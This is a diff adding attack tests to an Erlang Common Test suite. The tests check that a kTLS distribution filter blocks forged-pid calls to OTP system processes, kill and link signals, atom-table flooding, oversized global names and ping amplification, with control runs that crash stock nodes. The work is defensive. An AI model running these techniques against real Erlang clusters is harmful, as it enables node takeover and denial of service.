@@ -12,6 +12,13 @@
 %% the same connection still works. A control run shows that the same attack
 %% does succeed against a stock inet_tcp node or with the filter's break
 %% glass, so every check can fail.
+%%
+%% Beyond the talk: OTP's system processes addressed by pid and by forged
+%% pid instead of by name (pid_bypass), exit/link/group-leader signals to
+%% them (signals_to_system), requests through aliases (alias_requests),
+%% atom table exhaustion (atom_flood), huge global names
+%% (global_resources) and net_adm:ping as an amplifier (ping_amplifier).
+%% These report every check as a PASS/FAIL line before failing (verdict/1).
 -module(ktls_attack_SUITE).
 
 -include_lib("common_test/include/ct.hrl").
@@ -19,23 +26,51 @@
 
 -export([all/0, suite/0, init_per_testcase/2, end_per_testcase/2]).
 -export([recursive_halt/1, recursive_dist_shutdown/1, flood/1, forced_code_load/1,
-         rex_cast/1, supervisor_start_child/1, io_request_mfa/1, otp_server_backdoors/1]).
+         rex_cast/1, supervisor_start_child/1, io_request_mfa/1, otp_server_backdoors/1,
+         pid_bypass/1, signals_to_system/1, alias_requests/1, atom_flood/1, global_resources/1,
+         ping_amplifier/1]).
 %% run on the nodes
 -export([setup_node/0, mark/2, legit_workload/1, pg_member/0, bounded/2, try_erpc/4,
          erpc_attacks/3, halt_all_fun/1, shutdown_dist_fun/1, load_code_fun/3,
          multicast_fun/3, flood_send/2, flood_calls/2, start_sampler/0, sampler_peak/0, vm_hwm/0,
          code_server_load/3, rex_attacks/3, start_child_attacks/3, io_attacks/3,
          io_legit/1, backdoors/4, disconnects/1, third_node_io_request/3]).
+-export([system_pids/0, system_attacks/5, auth_badcookie/4, halting_attacks/5, parallel/1,
+         creation/1, forge_pid/4, target_creation/1, group_leaders/1, linked_to/2, alive/1,
+         signal_group_leader/1, start_linker/1, stop_linker/2, signal_exit/2,
+         signal_exit_forged/3, alias_sends/2, echo_call/2, atom_flood/5, existing_atoms/3,
+         global_big_names/4, global_register_big/1, big_global_names/0, ping_attacks/3]).
 
 -define(FAST_MS, 5000).
 -define(MIB, (1024 * 1024)).
 -define(GLOBAL, ["-kernel", "connect_all", "true"]).
+%% For nodes a case makes halt: no crash dump.
+-define(NO_DUMP, ["-env", "ERL_CRASH_DUMP_BYTES", "0"]).
+%% How the attacker addresses a system process: registered name, the pid
+%% read on the target, or a pid it builds itself.
+-define(HOWS, [name, pid, forged]).
+%% The system processes pid_bypass/1 attacks (kernel_config has no name:
+%% only its pid is used, as data).
+-define(BYPASS_NAMES, [init, file_server_2, code_server, application_controller, auth, inet_db,
+                       kernel_sup, kernel_refc, kernel_safe_sup, erl_signal_server, kernel_config]).
+%% The handler pid_bypass/1 adds to erl_signal_server (kernel's gen_event).
+-define(EVIL_HANDLER, {erl_signal_handler, ktls_attack}).
+%% The message shapes alias_requests/1 sends (see alias_kind/1).
+-define(ALIAS_KINDS, [gen_call, gen_call_alias, gen_cast, system, exit, down, io_request,
+                      code_call, reply, alias_reply, app]).
+%% {Name, Actual, true | false}: whether Actual matches Pattern (variables
+%% of Pattern bound before are compared, as in a case clause).
+-define(CHECK(Name, Pattern, Actual),
+        (fun(Actual__) ->
+                 {Name, Actual__, case Actual__ of Pattern -> true; _ -> false end}
+         end)(Actual)).
 
 suite() -> [{timetrap, {minutes, 3}}].
 
 all() ->
     [recursive_halt, recursive_dist_shutdown, flood, forced_code_load, rex_cast,
-     supervisor_start_child, io_request_mfa, otp_server_backdoors].
+     supervisor_start_child, io_request_mfa, otp_server_backdoors, pid_bypass, signals_to_system,
+     alias_requests, atom_flood, global_resources, ping_amplifier].
 
 init_per_testcase(TC, Config) ->
     Dir = filename:join(?config(priv_dir, Config), atom_to_list(TC)),
@@ -154,7 +189,10 @@ flood(Config) ->
     %% Control: the stock node holds the whole message.
     _ = call(A, flood_send, [NS, 8]),
     ok = ktls_ct_nodes:wait_until(fun() -> call(S, sampler_peak, []) > 512 * ?MIB end, 60000),
-    ok = call(A, legit_workload, [NS]).
+    %% (it may still be decoding the 512 MiB when the sampler sees them: on
+    %% two shared cores a 5 s call can time out meanwhile, so retried)
+    ok = ktls_ct_nodes:wait_until(fun() -> (catch call(A, legit_workload, [NS])) =:= ok end,
+                                  60000).
 
 %% 4. Forced code loading: code:load_binary/3 of a module the target does
 %% not have, through erpc, rpc, the talk's spreading fun, and a direct
@@ -326,6 +364,512 @@ otp_server_backdoors(Config) ->
            end, 5000).
 
 %% ------------------------------------------------------------------
+%% System processes by pid, signals, aliases, atoms, global, ping
+%% ------------------------------------------------------------------
+%%
+%% These cases collect the checks of each phase and report them all (one
+%% PASS/FAIL line each in the log) before the case fails, so one run shows
+%% which protections hold and which do not: a phase that crashes (say,
+%% because the target halted) is one failed check, and the later phases,
+%% the control runs included, still run.
+
+%% OTP's system processes addressed by registered name, by pid (the pid
+%% read on the target) and by a FORGED pid (built on the attacker from the
+%% target's node name, the process's numbers and the creation of a pid it
+%% got from the target; init as <0.0.0>, which it is on every node):
+%% gen_server calls to file_server_2 (write a file, read
+%% /proc/self/cmdline), application_controller (set_env,
+%% which_applications), auth (read and set the cookie), inet_db
+%% (add_host), kernel_sup (which_children, terminate/restart/delete_child),
+%% erl_signal_server (gen_event:add_handler/3, which_handlers/1);
+%% code_server's load_binary; init's get_arguments (the command line,
+%% cookie included); sys:get_status and sys:suspend; auth's badcookie
+%% message that disconnects a third node; then what halts a stock node:
+%% auth's badcookie message for an unknown name (auth crashes, net_sup and
+%% kernel_sup follow), plain {'EXIT', ...} messages to init, kernel_safe_sup
+%% and kernel_sup, {stop, stop} to init, sys:terminate/3. Nothing happens
+%% on the target, the calls are answered {error, unauthorized}, the target
+%% stays up. Control: two stock nodes do all of it.
+pid_bypass(Config) ->
+    Dir = ?config(marker_dir, Config),
+    {[{T, NT}, {T2, NT2}], {A, NA}} = cluster(2),
+    Before = conn_ids([{T, NT}, {T2, NT2}], NA),
+    Pids = maps:with(?BYPASS_NAMES, call(T, system_pids, [])),
+    Cookie = ktls_ct_nodes:call(T, erlang, get_cookie, []),
+    Attacks =
+        phase(attacks,
+              fun() ->
+                      Rs = [{How, call(A, system_attacks, [Dir, NT, How, dest_info(How, Pids),
+                                                           evil_module_for(How)])}
+                            || How <- ?HOWS],
+                      ct:pal("system attacks: ~p", [Rs]),
+                      {forged, Forged} = lists:keyfind(forged, 1, Rs),
+                      lists:append([refused_checks(NT, How, R) || {How, R} <- Rs]) ++
+                          [?CHECK(forged_pids_match, [], map_diff(Pids, maps:get(dests, Forged)))]
+              end),
+    timer:sleep(300),
+    Effects =
+        phase(effects,
+              fun() ->
+                      KConfig = safe(fun() -> child_pid(T, kernel_sup, kernel_config) end),
+                      [chk(no_file_written, markers(Dir),
+                           [M || M <- markers(Dir), lists:prefix("file_server_", M)] =:= []),
+                       ?CHECK(code_not_loaded, [false, false, false],
+                              [safe_call(T, code, is_loaded, [evil_name(H)]) || H <- ?HOWS]),
+                       ?CHECK(env_not_set, undefined,
+                              safe_call(T, application, get_env, [kernel, ktls_attack_env])),
+                       ?CHECK(cookie_unchanged, Cookie, safe_call(T, erlang, get_cookie, [])),
+                       ?CHECK(host_not_added, [{error, nxdomain}, {error, nxdomain}, {error, nxdomain}],
+                              [safe_call(T, inet_hosts, gethostbyname, [evil_host(H)]) || H <- ?HOWS]),
+                       chk(kernel_config_untouched, KConfig, KConfig =:= maps:get(kernel_config, Pids)),
+                       ?CHECK(kernel_refc_running, {status, _, _, [_, running | _]},
+                              safe_call(T, sys, get_status, [kernel_refc, 2000])),
+                       ?CHECK(no_handler_added, false,
+                              member(?EVIL_HANDLER,
+                                     safe_call(T, gen_event, which_handlers, [erl_signal_server])))]
+              end),
+    %% auth's badcookie handler disconnects the node of the pid it names
+    Badcookie =
+        phase(badcookie,
+              fun() ->
+                      T2Pid = ktls_ct_nodes:call(T2, erlang, whereis, [ktls_attack_server]),
+                      Conn = conn_id(T, NT2),
+                      [ok = call(A, auth_badcookie, [NT, How, dest_info(How, Pids), T2Pid])
+                       || How <- ?HOWS],
+                      timer:sleep(500),
+                      [?CHECK(t2_same_connection, Conn, safe(fun() -> conn_id(T, NT2) end))]
+              end),
+    %% what halts a stock node: nothing of it may reach the target
+    Halts =
+        phase(halting,
+              fun() ->
+                      Data = maps:with([application_controller, kernel_sup, kernel_config], Pids),
+                      Rs = [{How, call(A, halting_attacks, [NT, How, dest_info(How, Pids), Data, all])}
+                            || How <- ?HOWS],
+                      timer:sleep(1500),
+                      [?CHECK({How, sys_terminate}, {ok, {error, unauthorized}}, maps:get(sys_terminate, R))
+                       || {How, R} <- Rs] ++
+                          [?CHECK(target_up, NT, safe_call(T, erlang, node, [])),
+                           ?CHECK(system_pids_unchanged, [],
+                              map_diff(Pids, safe(fun() -> maps:with(?BYPASS_NAMES, call(T, system_pids, [])) end)))]
+              end),
+    Healthy = [?CHECK(healthy_target, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end)),
+               ?CHECK(healthy_target2, ok, safe(fun() -> healthy(T2, NT2, A, NA, Before) end))],
+    %% Control: a stock node.
+    Control =
+        phase(control,
+              fun() ->
+                      {S, NS} = node_of(name("stock"), inet_tcp, ?NO_DUMP),
+                      connect(A, NS),
+                      SPids = maps:with(?BYPASS_NAMES, call(S, system_pids, [])),
+                      Rs = [{How, call(A, system_attacks, [Dir, NS, How, dest_info(How, SPids),
+                                                           evil_module_for(How)])}
+                            || How <- ?HOWS],
+                      Checks =
+                          lists:append([stock_checks(NS, How, R) || {How, R} <- Rs]) ++
+                          [chk({NS, files_written}, markers(Dir),
+                               length([M || M <- markers(Dir), lists:prefix("file_server_", M),
+                                            lists:suffix("@" ++ atom_to_list(NS), M)]) =:= 3),
+                           ?CHECK({NS, code_loaded}, [{file, _}, {file, _}, {file, _}],
+                                  [safe_call(S, code, is_loaded, [evil_name(H)]) || H <- ?HOWS]),
+                           ?CHECK({NS, env_set}, {ok, _},
+                                  safe_call(S, application, get_env, [kernel, ktls_attack_env])),
+                           ?CHECK({NS, cookie_changed}, ktls_evil_cookie, safe_call(S, erlang, get_cookie, [])),
+                           ?CHECK({NS, handler_added}, true,
+                                  member(?EVIL_HANDLER,
+                                         safe_call(S, gen_event, which_handlers, [erl_signal_server]))),
+                           ?CHECK({NS, host_added}, [{ok, _}, {ok, _}, {ok, _}],
+                                  [safe_call(S, inet_hosts, gethostbyname, [evil_host(H)]) || H <- ?HOWS])],
+                      SData = maps:with([application_controller, kernel_sup, kernel_config], SPids),
+                      _ = call(A, halting_attacks, [NS, forged, dest_info(forged, SPids), SData, [init_exit]]),
+                      Checks ++ [?CHECK({NS, init_exit_halts}, ok,
+                                        ktls_ct_nodes:wait_until(fun() -> down(S) end, 10000))]
+              end),
+    %% Control: auth's badcookie messages on a second stock node: it drops
+    %% the attacker; one for a name it does not know crashes auth, which
+    %% takes net_sup and then the node down.
+    AuthControl =
+        phase(auth_control,
+              fun() ->
+                      {S2, NS2} = node_of(name("stock"), inet_tcp, ?NO_DUMP),
+                      connect(A, NS2),
+                      S2Pids = maps:with(?BYPASS_NAMES, call(S2, system_pids, [])),
+                      APid = ktls_ct_nodes:call(A, erlang, whereis, [ktls_attack_server]),
+                      ok = call(A, auth_badcookie, [NS2, pid, S2Pids, APid]),
+                      Connected = fun(P, N) -> member(N, ktls_ct_nodes:call(P, erlang, nodes, [])) end,
+                      Dropped = ktls_ct_nodes:wait_until(
+                                  fun() -> not Connected(S2, NA) andalso not Connected(A, NS2) end, 5000),
+                      connect(A, NS2),
+                      ok = ktls_ct_nodes:wait_until(fun() -> Connected(S2, NA) end, 5000),
+                      _ = call(A, halting_attacks, [NS2, pid, S2Pids, #{}, [auth_crash]]),
+                      [?CHECK({NS2, badcookie_disconnects}, ok, Dropped),
+                       ?CHECK({NS2, auth_crash_halts}, ok,
+                              ktls_ct_nodes:wait_until(fun() -> down(S2) end, 15000))]
+              end),
+    verdict(Attacks ++ Effects ++ Badcookie ++ Halts ++ Healthy ++ Control ++ AuthControl).
+
+%% Exit signals (exit/2 with reason kill, to the pids read on the target
+%% and to forged ones), link requests (and the exit of the linked process
+%% with reason kill) and group_leader/2 from the attacker to OTP's system
+%% processes, named and unnamed (init, the kernel application master and
+%% its child, user_sup, kernel_config, the literal area collector,
+%% application_controller, kernel_sup, net_sup, global_name_server, user,
+%% standard_error, ...): none reaches them; the target stays up on the same
+%% connection. The same to application processes still works. Control: a
+%% stock node takes the group leader change, loses standard_error to
+%% exit/2, and halts when a process linked to kernel_refc exits.
+signals_to_system(Config) ->
+    _ = Config,
+    {[{T, NT}], {A, NA}} = cluster(1),
+    Before = conn_ids([{T, NT}], NA),
+    All = call(T, system_pids, []),
+    %% socket_registry has init as its group leader like the named ones of
+    %% the definition but is not one of them: checked on its own
+    Pids = maps:without([socket_registry], All),
+    Extra = maps:with([socket_registry], All),
+    APid = ktls_ct_nodes:call(A, erlang, whereis, [ktls_attack_server]),
+    Links =
+        phase(links,
+              fun() ->
+                      GL0 = call(T, group_leaders, [All]),
+                      ok = call(A, signal_group_leader, [maps:values(All)]),
+                      Linker = call(A, start_linker, [maps:values(All)]),
+                      timer:sleep(300),
+                      GL = safe_call(T, ?MODULE, group_leaders, [All]),
+                      Linked = safe_call(T, ?MODULE, linked_to, [All, Linker]),
+                      With = fun(M, Keys) when is_map(M) -> maps:with(Keys, M);
+                                (Other, _) -> Other
+                             end,
+                      Only = fun(L, M) when is_list(L) -> [K || K <- L, maps:is_key(K, M)];
+                                (Other, _) -> Other
+                             end,
+                      {GL0Sys, GL0Extra} = {With(GL0, maps:keys(Pids)), With(GL0, maps:keys(Extra))},
+                      Checks = [?CHECK(group_leaders_unchanged, [], map_diff(GL0Sys, With(GL, maps:keys(Pids)))),
+                                ?CHECK(not_linked, [], Only(Linked, Pids)),
+                                ?CHECK({outside_definition, gl_init, group_leader_unchanged}, [],
+                                       map_diff(GL0Extra, With(GL, maps:keys(Extra)))),
+                                ?CHECK({outside_definition, gl_init, not_linked}, [], Only(Linked, Extra))],
+                      ok = call(A, stop_linker, [Linker, kill]),
+                      Checks
+              end),
+    Exits =
+        phase(exits,
+              fun() ->
+                      Ids = [{K, pid_numbers(P)} || {K, P} <- maps:to_list(All)],
+                      Forged = call(A, signal_exit_forged, [NT, Ids, kill]),
+                      ok = call(A, signal_exit, [maps:values(All), kill]),
+                      timer:sleep(1000),
+                      Dead = fun(M) when is_map(M) -> [K || {K, false} <- maps:to_list(M)];
+                                (Other) -> Other
+                             end,
+                      [?CHECK(forged_pids_match, [], map_diff(All, maps:from_list(Forged))),
+                       ?CHECK(target_up, NT, safe_call(T, erlang, node, [])),
+                       ?CHECK(system_processes_dead, [], Dead(safe_call(T, ?MODULE, alive, [Pids]))),
+                       ?CHECK({outside_definition, gl_init, dead}, [],
+                              Dead(safe_call(T, ?MODULE, alive, [Extra])))]
+              end),
+    %% application processes: exit, link + exit, group leader
+    Apps =
+        phase(application_processes,
+              fun() ->
+                      [C1, C2, C3] = [ktls_ct_nodes:call(T, gen_server, call, [ktls_attack_server, spawn_child])
+                                      || _ <- [1, 2, 3]],
+                      ok = call(A, signal_exit, [[C1], kill]),
+                      L2 = call(A, start_linker, [[C2]]),
+                      ok = call(A, stop_linker, [L2, kill]),
+                      ok = call(A, signal_group_leader, [[C3]]),
+                      timer:sleep(300),
+                      [?CHECK(app_exit_works, false, safe_call(T, erlang, is_process_alive, [C1])),
+                       ?CHECK(app_link_exit_works, false, safe_call(T, erlang, is_process_alive, [C2])),
+                       ?CHECK(app_group_leader_works, {group_leader, APid},
+                              safe_call(T, erlang, process_info, [C3, group_leader]))]
+              end),
+    Healthy = [?CHECK(healthy_target, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end))],
+    %% Control: a stock node.
+    Control =
+        phase(control,
+              fun() ->
+                      {S, NS} = node_of(name("stock"), inet_tcp, ?NO_DUMP),
+                      connect(A, NS),
+                      SPids = call(S, system_pids, []),
+                      ok = call(A, signal_group_leader, [[maps:get(user_sup, SPids)]]),
+                      ok = call(A, signal_exit, [[maps:get(standard_error, SPids)], kill]),
+                      SLinker = call(A, start_linker, [[maps:get(kernel_refc, SPids)]]),
+                      timer:sleep(300),
+                      Checks = [?CHECK({NS, group_leader_changed}, {group_leader, APid},
+                                       safe_call(S, erlang, process_info,
+                                                 [maps:get(user_sup, SPids), group_leader])),
+                                ?CHECK({NS, standard_error_killed}, false,
+                                       safe_call(S, erlang, is_process_alive,
+                                                 [maps:get(standard_error, SPids)])),
+                                ?CHECK({NS, linked}, [kernel_refc],
+                                       safe_call(S, ?MODULE, linked_to,
+                                                 [maps:with([kernel_refc], SPids), SLinker]))],
+                      ok = call(A, stop_linker, [SLinker, kill]),
+                      Checks ++ [?CHECK({NS, link_exit_halts}, ok,
+                                        ktls_ct_nodes:wait_until(fun() -> down(S) end, 10000))]
+              end),
+    verdict(Links ++ Exits ++ Apps ++ Healthy ++ Control).
+
+%% Messages to an alias (ALIAS_SEND) of an application process on the
+%% target: replies ({Tag, Value} and {[alias | Tag], Value} with a tag of
+%% the target's, as a reply to a call it made) and plain application
+%% messages arrive; OTP's request shapes ($gen_call, $gen_cast, system,
+%% 'EXIT', 'DOWN', io_request, code_call) do not. The same shapes to the
+%% process's pid and registered name arrive (it is no system process). To a
+%% process whose group leader is the kernel application master (a system
+%% process, standing in for one that gave its alias away in a call), by
+%% pid and name only the replies; by alias no request shapes, and (the
+%% stricter check) only the replies. A call the target makes to the
+%% attacker gets its reply (through the caller's alias). Control: a stock
+%% node and break glass take every shape.
+alias_requests(Config) ->
+    _ = Config,
+    {[{T, NT}], {A, NA}} = cluster(1),
+    Before = conn_ids([{T, NT}], NA),
+    {Holder, Alias} = ktls_ct_nodes:call(T, ktls_attack_alias, start, [app]),
+    {SysHolder, SysAlias} = ktls_ct_nodes:call(T, ktls_attack_alias, start, [system]),
+    %% the filter learns of new system processes within a second
+    timer:sleep(1500),
+    Kinds = fun(Node, P, Dest, Tag) ->
+                    Answers = call(A, alias_sends, [Dest, Tag]),
+                    timer:sleep(300),
+                    Got = ktls_ct_nodes:call(Node, ktls_attack_alias, received, [P]),
+                    {lists:sort([alias_kind(M) || M <- Got]), Answers}
+            end,
+    Every = lists:sort(?ALIAS_KINDS),
+    Target =
+        phase(target,
+              fun() ->
+                      {ViaAlias, Answers} = Kinds(T, Holder, Alias, Alias),
+                      ct:pal("answers to what was sent through the alias: ~p", [Answers]),
+                      {ViaPid, _} = Kinds(T, Holder, Holder, Alias),
+                      {ViaName, _} = Kinds(T, Holder, {ktls_attack_alias, NT}, Alias),
+                      [?CHECK(via_alias_only_replies_and_app, [alias_reply, app, reply], ViaAlias),
+                       ?CHECK(via_pid_all, Every, ViaPid),
+                       ?CHECK(via_name_all, Every, ViaName),
+                       ?CHECK(target_call_gets_reply, {ok, alias_reply},
+                              safe_call(T, ?MODULE, echo_call, [NA, alias_reply]))]
+              end),
+    System =
+        phase(system_holder,
+              fun() ->
+                      Master = ktls_ct_nodes:call(T, application_controller, get_master, [kernel]),
+                      {ViaAlias, _} = Kinds(T, SysHolder, SysAlias, SysAlias),
+                      {ViaPid, _} = Kinds(T, SysHolder, SysHolder, SysAlias),
+                      {ViaName, _} = Kinds(T, SysHolder, {ktls_attack_alias_system, NT}, SysAlias),
+                      [?CHECK(system_holder_group_leader, {group_leader, Master},
+                              safe_call(T, erlang, process_info, [SysHolder, group_leader])),
+                       ?CHECK(system_via_alias_no_requests, [], ViaAlias -- [alias_reply, app, reply]),
+                       %% An alias carries no owner on the wire, so a plain
+                       %% message (no OTP request shape) still reaches a
+                       %% system process through one (DESIGN.md, "Aliases"):
+                       %% the known limit, shown exactly.
+                       ?CHECK(system_via_alias_plain_message, [alias_reply, app, reply],
+                              lists:sort(ViaAlias)),
+                       ?CHECK(system_via_pid_only_replies, [alias_reply, reply], ViaPid),
+                       ?CHECK(system_via_name_only_replies, [alias_reply, reply], ViaName)]
+              end),
+    Healthy = [?CHECK(healthy_target, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end))],
+    %% Control: a stock node, then break glass on the target.
+    Control =
+        phase(control,
+              fun() ->
+                      {S, NS} = stock(),
+                      connect(A, NS),
+                      {SHolder, SAlias} = ktls_ct_nodes:call(S, ktls_attack_alias, start, [app]),
+                      {SSysHolder, SSysAlias} = ktls_ct_nodes:call(S, ktls_attack_alias, start, [system]),
+                      {StockAlias, _} = Kinds(S, SHolder, SAlias, SAlias),
+                      {StockSysAlias, _} = Kinds(S, SSysHolder, SSysAlias, SSysAlias),
+                      ok = ktls_ct_nodes:call(T, ktls_filter, config_set, [deep_packet_inspection, false]),
+                      {GlassAlias, _} = Kinds(T, Holder, Alias, Alias),
+                      {GlassSysPid, _} = Kinds(T, SysHolder, SysHolder, SysAlias),
+                      [?CHECK({NS, via_alias_all}, Every, StockAlias),
+                       ?CHECK({NS, system_via_alias_all}, Every, StockSysAlias),
+                       ?CHECK(break_glass_via_alias_all, Every, GlassAlias),
+                       ?CHECK(break_glass_system_via_pid_all, Every, GlassSysPid)]
+              end),
+    verdict(Target ++ System ++ Healthy ++ Control).
+
+%% Atom table exhaustion: an attacker with a large atom table (+t 4000000)
+%% sends 1.1 million atoms the target does not have, 10,000 a message, to
+%% an application process. The target takes at most
+%% max_new_atoms_per_connection (default 100,000) of them and stays up on
+%% the same connection. With max_new_atoms_per_connection 1000 and
+%% max_new_atoms 1500 set at run time on another target, 100 atoms a
+%% message: one attacker gets 1000 atoms in, a second one what is left of
+%% the node's budget (500); the first still does its legitimate workload
+%% (atoms the target has). Control: a stock node with +t 200000 dies of
+%% the same flood.
+atom_flood(Config) ->
+    _ = Config,
+    NoDump = ?NO_DUMP,
+    {T, NT} = node_of(name("target"), ktls, ?GLOBAL ++ NoDump),
+    {A, NA} = node_of(name("attacker"), inet_tcp, ?GLOBAL ++ ["+t", "4000000"]),
+    connect(A, NT),
+    Before = conn_ids([{T, NT}], NA),
+    Default =
+        phase(default_budget,
+              fun() ->
+                      Atoms0 = atom_count(T),
+                      Flood = call(A, atom_flood, [NT, "ktls_atk_", 0, 1100000, 10000]),
+                      ct:pal("flood: ~p", [Flood]),
+                      Got = safe_call(T, ?MODULE, existing_atoms, ["ktls_atk_", 0, 1100000]),
+                      Growth = safe(fun() -> atom_count(T) - Atoms0 end),
+                      [?CHECK(target_up, NT, safe_call(T, erlang, node, [])),
+                       chk(at_most_budget, Got, is_integer(Got) andalso Got =< 100000),
+                       chk(up_to_budget, Got, is_integer(Got) andalso Got >= 90000),
+                       chk(atom_count_growth, Growth, is_integer(Growth) andalso Growth =< 100000 + 5000),
+                       ?CHECK(healthy_target, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end))]
+              end),
+    %% Small budgets, set at run time, on a target in a cluster of its own:
+    %% A's budget on T is spent, and global's lock messages from A to T
+    %% that name a node T does not know yet are refused with it, which
+    %% would stall global's sync with any new node of A's cluster.
+    Small =
+        phase(small_budget,
+              fun() ->
+                      {T2, NT2} = node_of(name("target"), ktls, ?GLOBAL ++ NoDump),
+                      Set = [safe_call(T2, ktls_filter, config_set, [K, V])
+                             || {K, V} <- [{max_new_atoms_per_connection, 1000}, {max_new_atoms, 1500}]],
+                      {A3, NA3} = node_of(name("attacker"), inet_tcp, ?GLOBAL),
+                      connect(A3, NT2),
+                      Before2 = conn_ids([{T2, NT2}], NA3),
+                      Member = call(A3, pg_member, []),
+                      Synced = ktls_ct_nodes:wait_until(
+                                 fun() ->
+                                         ktls_ct_nodes:call(T2, global, whereis_name, [{ktls_attack, NA3}])
+                                             =:= Member
+                                 end, 10000),
+                      Atoms2 = atom_count(T2),
+                      _ = call(A3, atom_flood, [NT2, "ktls_atk_small_", 0, 3000, 100]),
+                      Got1 = safe_call(T2, ?MODULE, existing_atoms, ["ktls_atk_small_", 0, 3000]),
+                      {A2, NA2} = node_of(name("attacker"), inet_tcp, []),
+                      connect(A2, NT2),
+                      Before3 = conn_ids([{T2, NT2}], NA2),
+                      _ = call(A2, atom_flood, [NT2, "ktls_atk_second_", 0, 3000, 100]),
+                      Got2 = safe_call(T2, ?MODULE, existing_atoms, ["ktls_atk_second_", 0, 3000]),
+                      Growth2 = safe(fun() -> atom_count(T2) - Atoms2 end),
+                      [?CHECK(config_set, [ok, ok], Set),
+                       ?CHECK(global_sync_before_flood, ok, Synced),
+                       chk(per_connection_budget, Got1,
+                           is_integer(Got1) andalso Got1 =< 1000 andalso Got1 >= 800),
+                       chk(node_budget, Got2, is_integer(Got2) andalso Got2 =< 500 andalso Got2 >= 300),
+                       chk(atom_count_growth_small, Growth2,
+                           is_integer(Growth2) andalso Growth2 =< 1500 + 200),
+                       chk(second_attacker_connection_kept, Before3,
+                           Before3 =:= safe(fun() -> conn_ids([{T2, NT2}], NA2) end)),
+                       ?CHECK(healthy_target2, ok, safe(fun() -> healthy(T2, NT2, A3, NA3, Before2) end))]
+              end),
+    %% Control: a stock node with a small atom table.
+    Control =
+        phase(control,
+              fun() ->
+                      {S, NS} = node_of(name("stock"), inet_tcp, ["+t", "200000" | NoDump]),
+                      connect(A, NS),
+                      _ = call(A, atom_flood, [NS, "ktls_atk_stock_", 0, 400000, 10000]),
+                      [?CHECK({NS, stock_dies}, ok, ktls_ct_nodes:wait_until(fun() -> down(S) end, 20000))]
+              end),
+    verdict(Default ++ Small ++ Control).
+
+%% Names of 64 MiB registered with global on the target: a raw
+%% {register, Name, Pid, Method} call to global_name_server by name, by pid
+%% and by forged pid, the same through gen_server:multi_call (the form
+%% global itself uses, whose From tag is {Ref, Node}), and
+%% global:register_name/2. Over
+%% max_global_message_size (1 MiB): none gets stored, every call is
+%% answered at once, memory stays bounded. Control: a stock node stores
+%% them.
+global_resources(Config) ->
+    _ = Config,
+    {[{T, NT}], {A, NA}} = cluster(1),
+    Before = conn_ids([{T, NT}], NA),
+    ok = call(T, start_sampler, []),
+    Raw =
+        phase(raw_calls,
+              fun() ->
+                      GPid = ktls_ct_nodes:call(T, erlang, whereis, [global_name_server]),
+                      R = call(A, global_big_names, [NT, GPid, pid_numbers(GPid), 64]),
+                      ct:pal("raw registrations: ~p", [R]),
+                      [?CHECK(by_name_refused, {ok, {error, unauthorized}}, maps:get(by_name, R)),
+                       ?CHECK(by_pid_refused, {ok, {error, unauthorized}}, maps:get(by_pid, R)),
+                       ?CHECK(forged_pid_match, GPid, maps:get(forged_pid, R)),
+                       ?CHECK(by_forged_refused, {ok, {error, unauthorized}}, maps:get(by_forged, R)),
+                       ?CHECK(multi_call_answered, {ok, {[{NT, {error, unauthorized}}], []}},
+                              maps:get(multi_call, R)),
+                       ?CHECK(healthy_target, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end))]
+              end),
+    Register =
+        phase(register_name,
+              fun() ->
+                      R = call(A, global_register_big, [64]),
+                      timer:sleep(500),
+                      Bin = safe_call(T, erlang, memory, [binary]),
+                      Peak = safe_call(T, ?MODULE, sampler_peak, []),
+                      ct:pal("global:register_name: ~p; target binary memory ~p, peak total ~p",
+                             [R, Bin, Peak]),
+                      [?CHECK(register_name_answered, {ok, _}, R),
+                       ?CHECK(no_big_names, [], safe_call(T, ?MODULE, big_global_names, [])),
+                       chk(binary_memory_bounded, Bin, is_integer(Bin) andalso Bin < 32 * ?MIB),
+                       ?CHECK(healthy_target_after, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end))]
+              end),
+    %% Control: a stock node.
+    Control =
+        phase(control,
+              fun() ->
+                      {S, NS} = stock(),
+                      connect(A, NS),
+                      SPid = ktls_ct_nodes:call(S, erlang, whereis, [global_name_server]),
+                      R = call(A, global_big_names, [NS, SPid, pid_numbers(SPid), 64]),
+                      SBin = safe_call(S, erlang, memory, [binary]),
+                      [?CHECK({NS, registered},
+                              #{by_name := {ok, yes}, by_pid := {ok, yes}, by_forged := {ok, yes},
+                                multi_call := {ok, {[{NS, yes}], []}}}, R),
+                       ?CHECK({NS, big_names}, [1, 2, 3, 4], safe_call(S, ?MODULE, big_global_names, [])),
+                       chk({NS, binary_memory}, SBin, is_integer(SBin) andalso SBin > 128 * ?MIB)]
+              end),
+    verdict(Raw ++ Register ++ Control).
+
+%% net_adm:ping/1 run on the target for the attacker (erpc, rpc, spawn),
+%% of a third node and of twenty nodes that do not exist: refused, the
+%% target connects nowhere and starts no processes; erlang:node/0 stays
+%% allowed. Control: a stock node pings the node it is told to.
+ping_amplifier(Config) ->
+    _ = Config,
+    {[{T, NT}], {A, NA}} = cluster(1),
+    {S, NS} = stock(),
+    connect(A, NS),
+    Before = conn_ids([{T, NT}], NA),
+    Refused = {exit, {exception, unauthorized}},
+    Target =
+        phase(target,
+              fun() ->
+                      Procs0 = ktls_ct_nodes:call(T, erlang, system_info, [process_count]),
+                      R = call(A, ping_attacks, [NT, NS, 20]),
+                      ct:pal("ping attacks: ~p", [R]),
+                      timer:sleep(1000),
+                      Procs = safe_call(T, erlang, system_info, [process_count]),
+                      Nodes = safe_call(T, erlang, nodes, []),
+                      [?CHECK(erpc_refused, Refused, maps:get(erpc, R)),
+                       ?CHECK(rpc_refused, {ok, {badrpc, {'EXIT', unauthorized}}}, maps:get(rpc, R)),
+                       ?CHECK(spawn_refused, {ok, unauthorized}, maps:get(spawn, R)),
+                       chk(nobody_refused, maps:get(nobody, R),
+                           lists:all(fun(X) -> X =:= Refused end, maps:get(nobody, R))),
+                       ?CHECK(node_allowed, {ok, NT}, maps:get(node, R)),
+                       chk(no_connection_to_third, Nodes, is_list(Nodes) andalso not member(NS, Nodes)),
+                       chk(no_process_growth, {Procs0, Procs}, is_integer(Procs) andalso Procs =< Procs0 + 5)]
+              end),
+    Healthy = [?CHECK(healthy_target, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end))],
+    %% Control: a stock node.
+    Control =
+        phase(control,
+              fun() ->
